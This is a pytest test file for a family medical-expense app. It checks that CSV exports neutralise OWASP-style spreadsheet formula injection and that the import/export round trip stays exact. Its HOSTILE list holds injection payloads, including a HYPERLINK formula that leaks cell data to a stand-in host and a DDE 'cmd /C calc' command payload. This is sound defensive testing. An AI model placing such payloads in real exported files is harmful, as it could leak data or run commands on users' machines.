"""CSV injection (OWASP): no exported text cell is something a spreadsheet would evaluate, numbers stay numbers,
and importing our own export gives back exactly the same texts. Checked cell by cell with the ``csv`` module."""

from __future__ import annotations

import csv
import datetime as dt
import json
from decimal import Decimal

from desktop.book import FamilyBook
from desktop.store import csvio

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "=1+2",
    "'=already quoted",  # a text that itself starts with the quote mark: must come back as it was
    "'plain quote",
    "\t=1+2",  # the import strips the tab; what is left must not reach the export as a formula
    "\r=1+2",
    "@",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("姓名", "医疗机构", "备注")
NUMBER_COLUMNS = ("总费用", "统筹实际支付", "统筹估算", "个人负担", "本人账户", "医保钱包支付", "家庭共济", "现金")


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _assert_safe(rows: list[dict[str, str]]) -> None:
    assert rows
    for n, row in enumerate(rows, start=2):
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), f"row {n}, {column}: {cell!r} would be evaluated"
        for column in NUMBER_COLUMNS:
            if row[column]:
                Decimal(row[column])  # a plain number, no quote mark in front


def _hostile_csv(tmp_path, name: str) -> FamilyBook:
    book = FamilyBook.open(tmp_path / "data")
    book.add_member(name, "140100", "employee")
    lines = ["姓名,日期,医疗机构,医院等级,就医类型,总费用,统筹实际支付,可用医保钱包,备注"]
    def q(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    for i, text in enumerate(HOSTILE):
        lines.append(f"{q(name)},2025-03-{i + 1:02d},{q(text)},1,普通门诊,100.00,,是,{q(text)}")
    src = tmp_path / "in.csv"
    src.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    assert book.import_visits_csv(src).imported == len(HOSTILE)
    return book


def test_imported_formulas_are_neutralised_in_the_export(tmp_path):
    book = _hostile_csv(tmp_path, "王建国")
    out = tmp_path / "out.csv"
    book.export_visits_csv(out)
    rows = _rows(out)
    _assert_safe(rows)
    stored = [v.institution for v in book.visits(newest_first=False)]
    assert [r["医疗机构"] for r in rows] == [
        ("'" + s) if s.startswith(TRIGGERS + ("'",)) else s for s in stored]
    assert rows[0]["医疗机构"] == "'" + HOSTILE[0]
    book.close()


def test_a_member_name_from_a_json_import_is_neutralised_too(tmp_path):
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    first = FamilyBook.open(tmp_path / "first")
    first.add_member("王建国", "140100", "employee")
    first.record_visit(first.members()[0].id, dt.date(2025, 3, 1), "outpatient", "1", 10000, notes="-复诊")
    first.export_json(tmp_path / "book.json")
    first.close()
    doc = json.loads((tmp_path / "book.json").read_text(encoding="utf-8"))
    doc["members"][0]["name"] = name
    (tmp_path / "book.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    book = FamilyBook.open(tmp_path / "data")
    book.import_json(tmp_path / "book.json")
    book.export_visits_csv(tmp_path / "out.csv", lang="en")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    assert rows[1][0] == "'" + name and rows[1][-7] == "'-复诊"
    book.close()


def test_our_own_export_imports_back_exactly(tmp_path):
    name = '=HYPERLINK("http://x.example/","click")'
    book = _hostile_csv(tmp_path, name)
    typed = ["'=typed with a quote", "''two quotes", "'plain quote", " =space first", "-"]
    for i, text in enumerate(typed):  # texts typed in the window, not imported
        book.record_visit(book.members()[0].id, dt.date(2025, 4, i + 1), "outpatient", "1", 100, institution=text,
                          notes=text)
    book.export_visits_csv(tmp_path / "out.csv")
    before = [(v.member_name, v.on_date, v.institution, v.notes, v.total_fen) for v in book.visits(newest_first=False)]
    book.close()
    again = FamilyBook.open(tmp_path / "again")
    again.add_member(name, "140100", "employee")
    assert again.import_visits_csv(tmp_path / "out.csv").imported == len(HOSTILE) + len(typed)
    after = [(v.member_name, v.on_date, v.institution, v.notes, v.total_fen) for v in again.visits(newest_first=False)]
    assert after == before
    assert set(typed) - {" =space first"} <= {a[2] for a in after}
    again.close()


def test_a_quote_typed_by_hand_before_plain_text_is_kept():
    rows, errors = csvio.parse("姓名,日期,就医类型,总费用,备注\n王建国,2025-03-01,普通门诊,1,'好的\n", [(1, "王建国")])
    assert not errors and rows[0].notes == "'好的"
    rows, errors = csvio.parse("姓名,日期,就医类型,总费用,备注\n王建国,2025-03-01,普通门诊,1,'=1+2\n", [(1, "王建国")])
    assert not errors and rows[0].notes == "=1+2"  # the spreadsheet's own way of writing "text, not a formula"
